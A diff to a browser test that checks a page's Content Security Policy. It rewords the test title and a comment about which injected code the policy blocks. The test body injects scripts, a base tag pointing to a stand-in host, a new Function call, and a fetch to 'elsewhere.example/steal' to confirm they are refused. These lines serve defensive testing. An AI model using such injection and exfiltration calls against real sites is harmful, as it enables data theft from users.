@@ -13,7 +13,7 @@ declare global {
   }
 }
 
-test('a script that found its way into the page does not run, and nothing is fetched from elsewhere', async () => {
+test('an injected script does not run, and nothing is fetched from other hosts', async () => {
   const page = await app.page('Salesman')
   const refused: string[] = []
   page.on('console', message => void (message.text().includes('Content Security Policy') && refused.push(message.text())))
@@ -30,7 +30,7 @@ test('a script that found its way into the page does not run, and nothing is fet
     base.href = 'https://elsewhere.example/'
     document.body.append(place, inline, foreign, base)
     document.querySelector<HTMLAnchorElement>('#link')!.click()
-    // What the browser is told to run from outside may do more; what runs later may not.
+    // Code in page.evaluate bypasses the content policy. Code in a timer does not.
     setTimeout(() => new Function("(window.ran ??= []).push('function')")())
     void fetch('https://elsewhere.example/steal').catch(() => {})
   })
